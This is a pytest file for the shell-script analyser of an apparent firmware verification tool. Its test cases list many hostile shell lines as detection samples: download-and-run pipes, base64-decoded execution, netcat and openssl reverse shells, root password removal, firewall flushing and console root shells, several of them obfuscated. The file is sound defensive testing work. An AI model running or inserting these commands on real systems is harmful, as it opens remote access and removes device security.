from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fwverify.analyse.scripts import launches
from fwverify.analyse.services import examine
from fwverify.analyse.shell import MAX_SCRIPT_BYTES, disguised, plain_lines, shell
from fwverify.analyse.values import Hit, PathRequest


def strongest(line: str) -> Hit:
    order = ("low", "medium", "high")
    hits = disguised(f"#!/bin/sh\n{line}\n")
    return max(hits, key=lambda hit: (order.index(hit.severity), order.index(hit.confidence)))


@pytest.mark.parametrize(
    "line",
    [
        "echo done",
        "# base64 -d x | sh",
        "echo 'wget -O- http://h | sh'",
        'echo "run: base64 -d f | sh"',
        "true # | sh",
        "base64 -d < a > b",
        "wget -O /tmp/a http://h; cat /tmp/a",
        "nc -z host 22 && echo up",
        "telnet host 23",
        "cat a | show",
        "ls | sh.conf",
        ". /lib/lsb/init-functions",
        ". /etc/default/net",
        "passwd -l root",
        "cat /etc/passwd",
        "iptables -A INPUT -j DROP",
        "iptables -P INPUT DROP",
        "getty -L ttyS0 115200 vt100",
        "evaluate $x",
        "wget -O $HOME/a http://h; chmod +x $HOME/b",
        "tr a b | sort",
    ],
)
def test_ordinary_lines_are_left_alone(line: str) -> None:
    assert disguised(f"#!/bin/sh\n{line}\n") == ()


@pytest.mark.parametrize(
    ("line", "rule", "severity", "confidence"),
    [
        ("echo eA== | base64 -d | sh", "decoded_exec", "high", "high"),
        ("echo eA== | base64 -d |\n  zcat |\n sh", "decoded_exec", "high", "high"),
        ("echo eA== | bas\\e64 -d | 'sh'", "decoded_exec", "high", "high"),
        ("echo 78 | xxd -r -p | /bin/sh", "decoded_exec", "high", "high"),
        ('eval "$(echo eA== | base64 -d)"', "decoded_exec", "high", "high"),
        ("echo hs | rev | . /dev/stdin", "decoded_exec", "high", "high"),
        ("D=base64; echo eA== | $D -d | sh", "decoded_exec", "high", "high"),
        ("echo x | tr a-z n-za-m | sh", "filtered_exec", "medium", "medium"),
        ("eval \"$(printf '\\164')\" -l", "filtered_exec", "medium", "medium"),
        ("cat a | sh", "filtered_exec", "medium", "medium"),
        ('eval "$QUERY_STRING"', "variable_exec", "medium", "low"),
        ('sh -c "$c"', "variable_exec", "medium", "low"),
        (". $file", "variable_exec", "medium", "low"),
        (". /tmp/x", "variable_exec", "medium", "low"),
        ("while :; do nc -l -p 4444 | sh; done", "network_exec", "high", "high"),
        ("busybox nc host 443 | sh", "network_exec", "high", "high"),
        ("tel''net h 1 | sh | telnet h 2", "network_exec", "high", "high"),
        ("sh -i < f 2>&1 | openssl s_client -connect h:1 > f", "network_exec", "high", "high"),
        ("awk 'BEGIN{s=\"/inet/tcp/0/h/1\"}'", "network_exec", "high", "high"),
        ("mosquitto_sub -t c | while read c; do sh -c $c; done", "network_exec", "high", "high"),
        ("wg\\et -qO- http://h | s''h", "download_exec", "high", "high"),
        ('eval "$(curl -s http://h)"', "download_exec", "high", "high"),
        ("curl -so /tmp/a http://h\nchmod +x /tmp/a\n/tmp/a", "download_exec", "high", "high"),
        ("F=/tmp/a\nwget -O $F http://h\nsh $F", "download_exec", "high", "high"),
        ("wget -O /tmp/a http://h && sh /tmp/a", "download_exec", "high", "high"),
        ("passwd -d root", "password_removed", "high", "high"),
        ("echo root:x | chpasswd", "password_set", "high", "high"),
        ("echo x::0:0::/:/bin/sh >> /etc/passwd", "password_set", "high", "high"),
        ("iptables -F", "firewall_open", "medium", "medium"),
        ("iptables -P INPUT ACCEPT", "firewall_open", "medium", "medium"),
        ("getty -n -l /bin/sh ttyS0", "console_shell", "high", "medium"),
        (":" + " x" * 6000 + "; passwd -d root", "password_removed", "high", "high"),
    ],
)
def test_what_hides_is_named(line: str, rule: str, severity: str, confidence: str) -> None:
    hit = strongest(line)
    assert (hit.rule, hit.severity, hit.confidence) == (f"shell.{rule}", severity, confidence)


@pytest.mark.parametrize(
    "words",
    [
        'tel""netd -l x',
        "t\\elnetd",
        "'telnetd'",
        "/usr/sbin/te'l'netd -l x",
        "$'\\x74elnetd'",
        "$'\\164elnetd'",
        "tel\\\nnetd -l x",
        "A=tel\nB=netd\n$A$B",
        "A=tel; B=netd; $A${B}",
        "tel$@netd",
        "tel${none}netd",
        "env X=1 telnetd",
        "nice -n 5 telnetd -p 2",
        "timeout 60 telnetd",
        ":" + " x" * 6000 + "; telnetd",
    ],
)
def test_a_disguised_word_is_still_a_start(words: str) -> None:
    found = {launch.remote.rule for launch in launches(f"#!/bin/sh\n{words}\n")}
    assert found == {"service.telnet"}


@pytest.mark.parametrize(
    "words", ["echo 'x; telnetd'", 'echo "now; telnetd &"', "logger tel''netd", "# tel''netd"]
)
def test_a_quoted_word_is_no_start(words: str) -> None:
    plain = [line for _, line in plain_lines(words)]
    assert not any("; telnetd" in line for line in plain)


def test_a_remote_forward_is_a_way_back() -> None:
    (launch,) = launches("ssh -fN -o RemoteForward=2222:localhost:22 u@h\n")
    assert launch.remote.rule == "service.ssh_reverse"


def test_a_file_without_a_first_line_is_read_by_its_place() -> None:
    request = PathRequest(store="", sha256="0" * 64, path="etc/inittab")
    hits = examine(b"a\n::respawn:/sbin/getty -n -l /bin/sh ttyS0\n", request).hits
    assert [(hit.rule, hit.offset) for hit in hits] == [("shell.console_shell", 2)]


def test_only_scripts_are_read_as_contents_and_a_large_one_is_said() -> None:
    assert shell(b"echo | base64 -d | sh") == ((), ())
    assert shell(b"#!/usr/bin/python3\nbase64 -d | sh") == ((), ())
    assert shell(b"") == ((), ())
    large = b"#!/bin/sh\n" + b"true\n" * (MAX_SCRIPT_BYTES // 5)
    assert [trouble.code for trouble in shell(large)[1]] == ["limit.script_bytes"]


@settings(max_examples=80, derandomize=True, deadline=None)
@given(st.text(alphabet="\\'\"$`(){};|&#\n abtelnd=\x00", max_size=80))
def test_any_text_is_read_and_hides_nothing_before_it(text: str) -> None:
    planted = disguised(f"passwd -d root\n{text}\n")
    assert planted == disguised(f"passwd -d root\n{text}\n")
    assert "shell.password_removed" in {hit.rule for hit in planted}


@pytest.mark.parametrize("unit", ["eval $(", "eval `", " sh -c $(", "eval (x $(", ". <(", "eval  "])
def test_openings_without_an_end_cost_little(unit: str) -> None:
    content = ("#!/bin/sh\n" + unit * 4000).encode()
    started = time.process_time()
    shell(content)
    assert time.process_time() - started < 3


def test_too_many_evaluations_are_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("fwverify.analyse.shell.MAX_EVALUATIONS", 3)
    line = b'eval "$x"\n'
    assert shell(b"#!/bin/sh\n" + line * 3)[1] == ()
    hits, (trouble,) = shell(b"#!/bin/sh\nnc 10.0.0.1 4444 | sh\n" + line * 4)
    assert trouble.code == "limit.script_evaluations"
    assert "shell.network_exec" in {hit.rule for hit in hits}


@pytest.mark.parametrize(
    "line",
    [
        'eval "$(nc 10.0.0.1 4444)"',
        "eval $(date) $(ncat 10.0.0.1 4444)",
        'sh -c "$(telnet host 99)"',
        ". <(socat - tcp:host:1)",
    ],
)
def test_text_from_the_network_is_seen_behind_every_opening(line: str) -> None:
    assert "shell.network_exec" in {hit.rule for hit in disguised(line)}


@pytest.mark.parametrize("line", ["eval $(date; echo $(echo aGk= | base64 -d))", "eval `xxd -r f`"])
def test_decoded_text_is_seen_behind_every_opening(line: str) -> None:
    assert "shell.decoded_exec" in {hit.rule for hit in disguised(line)}
